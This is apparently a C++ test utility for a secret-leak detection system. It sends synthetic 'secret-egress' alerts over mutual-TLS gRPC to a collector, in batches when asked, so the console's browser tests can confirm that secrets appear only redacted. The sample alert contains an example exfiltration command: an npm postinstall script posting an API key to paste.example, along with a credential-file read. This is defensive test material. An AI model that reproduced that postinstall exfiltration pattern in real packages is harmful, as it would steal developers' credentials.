// Sends one alert to a running collector as an agent would build it, for the console's browser
// tests (tests/console): the secret comes from $CS_TEST_SECRET and goes through the agent's own
// redaction and keyed fingerprint (report/redact.h, fingerprint.h, secret_shapes.h) and its
// wire mapping (report/alert_proto.h), so a test can check that no page shows the raw value.
//   credsentry_console_seed --collector 127.0.0.1:PORT --pki DIR --host H --id ID [--count N]
// Prints "seeded ID <fingerprint>" once the collector acknowledged it. With --count N it sends
// N such alerts (ids ID-0 ... ID-<N-1>, in batches of 1,000), to time the console on a big store.
#include <grpcpp/grpcpp.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include "credsentry/v1/collector.grpc.pb.h"
#include "report/alert_proto.h"
#include "report/fingerprint.h"
#include "report/redact.h"
#include "report/secret_shapes.h"

namespace {

std::string Slurp(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

}  // namespace

int main(int argc, char** argv) {
  std::string address, pki, host, id;
  long count = 0;
  for (int i = 1; i + 1 < argc; i += 2) {
    std::string flag = argv[i], value = argv[i + 1];
    if (flag == "--collector") address = value;
    else if (flag == "--pki") pki = value;
    else if (flag == "--host") host = value;
    else if (flag == "--id") id = value;
    else if (flag == "--count") count = std::stol(value);
    else {
      std::cerr << "unknown flag " << flag << "\n";
      return 2;
    }
  }
  const char* secret_env = getenv("CS_TEST_SECRET");
  if (address.empty() || pki.empty() || host.empty() || id.empty() || !secret_env) {
    std::cerr << "usage: CS_TEST_SECRET=... credsentry_console_seed --collector ADDR --pki DIR "
                 "--host H --id ID\n";
    return 2;
  }
  const std::string secret = secret_env;
  using namespace credsentry;
  alert::Alert a;
  a.id = id;
  a.time_ns = std::chrono::duration_cast<std::chrono::nanoseconds>(
                  std::chrono::system_clock::now().time_since_epoch())
                  .count();
  a.kind = "secret-egress";
  a.severity = alert::Severity::kCritical;
  a.summary = "anthropic key sent to paste.example (not an Anthropic host)";
  a.host = host;
  a.process.pid = 4242;
  a.process.ppid = 4200;
  a.process.comm = "node";
  a.process.exe = "/usr/bin/node";
  a.process.cmdline = report::RedactSecretShapes(
      "node postinstall.js --header 'x-api-key: " + secret + "' https://paste.example/upload");
  a.process.ancestors = {{4200, "npm", "/usr/bin/npm", "npm install"},
                         {4100, "bash", "/usr/bin/bash", "bash -e ci.sh"}};
  a.process.systemd_unit = "ci-runner.service";
  a.process.credential_env = {"ANTHROPIC_API_KEY"};
  a.ci = {"github-actions", "acme/web", "build", "981", "test"};
  a.secret.type = "anthropic-api-key";
  a.secret.provider = "anthropic";
  a.secret.name = "Anthropic API key";
  a.secret.redacted = report::Redact(secret, 7);
  a.secret.fingerprint = report::Fingerprinter("console-test-fingerprint-key").Of(secret);
  a.secret.found_in = alert::FoundIn::kTlsWrite;
  a.destination.host = "paste.example";
  a.destination.ip = "127.0.0.9";
  a.destination.port = 443;
  a.destination.transport = alert::Transport::kTls;
  a.destination.name_source = alert::NameSource::kSni;
  a.destination.expected = {"api.anthropic.com"};
  a.evidence.credential_reads = {{"/home/ci/.config/anthropic/key", 4242, "node", a.time_ns}};
  a.evidence.decoding = {"http2", "hpack", "base64"};

  grpc::SslCredentialsOptions ssl;
  ssl.pem_root_certs = Slurp(pki + "/ca.pem");
  ssl.pem_cert_chain = Slurp(pki + "/agent-" + host + ".pem");
  ssl.pem_private_key = Slurp(pki + "/agent-" + host + ".key");
  auto stub = v1::Collector::NewStub(grpc::CreateChannel(address, grpc::SslCredentials(ssl)));
  const long total = count > 0 ? count : 1;
  for (long sent = 0; sent < total;) {
    v1::AlertBatch batch;
    batch.set_agent_host(host);
    for (; sent < total && batch.alerts_size() < 1000; ++sent) {
      if (count > 0) {
        a.id = id + "-" + std::to_string(sent);
        a.time_ns += 1000;
      }
      report::ToProto(a, batch.add_alerts());
    }
    grpc::ClientContext ctx;
    ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(30));
    v1::AlertAck ack;
    grpc::Status st = stub->SendAlerts(&ctx, batch, &ack);
    if (!st.ok() || ack.acked_ids_size() != batch.alerts_size()) {
      std::cerr << "not acknowledged: " << st.error_message() << "\n";
      return 1;
    }
  }
  std::cout << "seeded " << id << " " << a.secret.fingerprint << std::endl;
  return 0;
}
